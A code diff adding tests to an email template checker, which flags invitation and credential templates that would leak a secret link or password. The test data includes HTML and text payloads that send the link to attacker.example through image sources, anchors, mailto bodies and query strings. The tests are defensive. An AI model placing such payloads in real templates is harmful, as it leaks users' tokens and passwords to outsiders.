@@ -8,6 +8,37 @@ import { compileTemplate, renderTemplate } from '../../src/templates/render.ts'
 const SOUND = { subject: 'Join {{organization}}', text: '{{link}}', html: '<p>{{link}}</p>' }
 const codesOf = (changes: Partial<typeof SOUND>) => checkPublication('invitation', { ...SOUND, ...changes }).map(({ code, part }) => `${code} ${part}`)
 
+describe('the link of an invitation is refused where it would be told to somebody else:', () => {
+  test.each([
+    ['<img src="{{link}}">', ['template.secret_in_attribute html']],
+    ['<img src="https://attacker.example/?{{link}}">', ['template.foreign_image html']],
+    ['<p title="{{link}}">x</p>', ['template.secret_in_attribute html']],
+    ['<a href="{{link}}?x">x</a>', ['template.secret_in_attribute html']],
+    ['<a href="{{link}}{{#if supportName}}?x{{/if}}">x</a>', ['template.secret_in_attribute html']],
+    ['<a href="https://attacker.example/?{{link}}">x</a>', ['template.foreign_link html']],
+    ['<a href="mailto:attacker@attacker.example?body={{link}}">x</a>', ['template.secret_in_attribute html']],
+    ["<img alt='<a href=\"{{link}}\">", ['template.secret_in_attribute html']],
+    ['<table background="{{link}}"></table>', ['template.secret_in_attribute html']],
+    ['https://attacker.example/?{{link}}', ['template.secret_in_address html']],
+  ])('%s', (html, expected) => {
+    expect(codesOf({ html: `<p>{{link}}</p>${html}` })).toEqual(expected)
+  })
+
+  test('in a text that mail programs make links in', () => {
+    expect(codesOf({ text: 'https://attacker.example/?{{link}}' })).toEqual(['template.secret_in_address text'])
+    expect(codesOf({ text: 'See https://acme.example/help or\n({{link}}).' })).toEqual([])
+  })
+
+  test('as the whole address of a link it is where it belongs', () => {
+    expect(codesOf({ html: `<a class="b" href="{{link}}">Join</a><a href='{{link}}'>{{link}}</a><a href="https://acme.example/help">Help</a>` })).toEqual([])
+  })
+})
+
+test('a password may not leave by the address of a link', () => {
+  const source = { subject: 'x', text: '{{password}}', html: '<p>{{password}}</p><a href="{{loginUrl}}?p={{password}}">x</a>' }
+  expect(checkPublication('credentials', source).map(({ code }) => code)).toEqual(['template.secret_in_attribute'])
+})
+
 test('a sound one has no problem', () => {
   expect(codesOf({})).toEqual([])
 })
